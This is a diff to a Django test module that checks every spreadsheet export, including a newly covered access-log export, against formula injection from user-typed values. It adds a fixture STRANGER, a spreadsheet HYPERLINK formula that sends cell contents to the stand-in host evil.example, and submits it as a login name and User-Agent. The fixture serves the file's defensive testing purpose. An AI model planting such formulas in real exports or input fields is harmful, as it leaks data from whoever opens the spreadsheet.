@@ -11,6 +11,7 @@ by its view (a registry export, an import template, any view class named `…Exp
 
 from __future__ import annotations
 
+import inspect
 from collections.abc import Iterator
 from datetime import date
 from io import BytesIO
@@ -44,6 +45,11 @@ NOT_TEXT |= {"industry_scope", "division", "slice_key", "indicator", "rule", "fi
 # The log, progress and computed cells are the platform's own bookkeeping.
 NOT_TYPED = {"accounts.AccessEvent", "core.JobProgress", "indicators.IndicatorCell"}
 PERSONAS = ["tongji", "demo", "shanxi", "zhaoshang", "shendian", "lvjing", "sysadmin"]
+PERSONAS += ["secadmin", "auditadmin"]
+# What a stranger sends as a user name or browser (the access log's export shows both).
+STRANGER = '=HYPERLINK("http://evil.example/?leak="&A1,"登录")'
+# Spreadsheets behind an address whose name does not end in -export: (name, query).
+OTHER_EXPORTS = {"accounts:access-log": {"export": "xlsx"}}
 
 
 def _quiet(_line: str) -> None:
@@ -93,6 +99,10 @@ def _demo(django_db_setup: None, django_db_blocker: Any) -> Iterator[None]:
     ):
         demo_load(echo=_quiet, today=DAY)
         assert _plant() > 1000
+        # A failed sign-in with a formula for a name and a browser: the access log records both.
+        Client(HTTP_USER_AGENT=STRANGER).post(
+            reverse("accounts:login"), {"username": STRANGER, "password": "x"}
+        )
         yield
         transaction.set_rollback(True)
 
@@ -106,25 +116,33 @@ def _patterns(resolver: URLResolver, namespace: str | None = None) -> Iterator[t
             )
         elif isinstance(pattern, URLPattern) and pattern.name:
             name = f"{namespace}:{pattern.name}" if namespace else pattern.name
-            yield name, getattr(pattern.callback, "view_class", None)
+            yield name, getattr(pattern.callback, "view_class", pattern.callback)
 
 
 def _is_spreadsheet_view(view: Any) -> bool:
-    return isinstance(view, type) and (
+    """A view that can answer with a spreadsheet: a registry export, a template, a class named
+    …Export…View, or any view whose code hands a workbook out (xlsx_download, XLSX_TYPE)."""
+    if isinstance(view, type) and (
         issubclass(view, RegistryExportView | ImportTemplateView)
         or ("Export" in view.__name__ and view.__name__.endswith("View"))
-    )
+    ):
+        return True
+    try:
+        source = inspect.getsource(view)
+    except (OSError, TypeError):
+        return False
+    return "xlsx_download" in source or "XLSX_TYPE" in source
 
 
 def export_names() -> list[str]:
-    by_name = set()
+    by_name = set(OTHER_EXPORTS)
     by_view = set()
-    for name, view in _patterns(get_resolver()):
+    for name, callback in _patterns(get_resolver()):
         if name.startswith("api:"):
             continue
         if name.endswith(("-export", "-template")):
             by_name.add(name)
-        if _is_spreadsheet_view(view):
+        if _is_spreadsheet_view(callback):
             by_view.add(name)
     # A spreadsheet view whose name does not say so would escape a walk by name: refuse it.
     assert by_view <= by_name, by_view - by_name
@@ -141,7 +159,7 @@ def _address(name: str) -> tuple[str, dict[str, str]]:
         return reverse(name, args=["gross_output"]), {"month": "2025-12", "by": "park"}
     if name == "indicators:indicator-export":
         return reverse(name), {"month": "2026-02"}
-    return reverse(name), {}
+    return reverse(name), OTHER_EXPORTS.get(name, {})
 
 
 def _cells(content: bytes) -> Iterator[Any]:
@@ -155,6 +173,7 @@ def test_the_walk_finds_the_exports_and_the_templates() -> None:
     assert len(EXPORTS) >= 20
     assert "returns:return-export" in EXPORTS
     assert "projects:lead-export" in EXPORTS
+    assert "accounts:access-log" in EXPORTS
 
 
 @pytest.mark.parametrize("name", EXPORTS)
@@ -163,7 +182,7 @@ def test_no_export_writes_a_formula_whatever_the_users_typed(name: str) -> None:
     downloads = 0
     quoted = 0
     for username in PERSONAS:
-        client = Client()
+        client = Client(HTTP_USER_AGENT=STRANGER)
         client.force_login(User.objects.get(username=username))
         response = client.get(address, query)
         if response.status_code != 200:
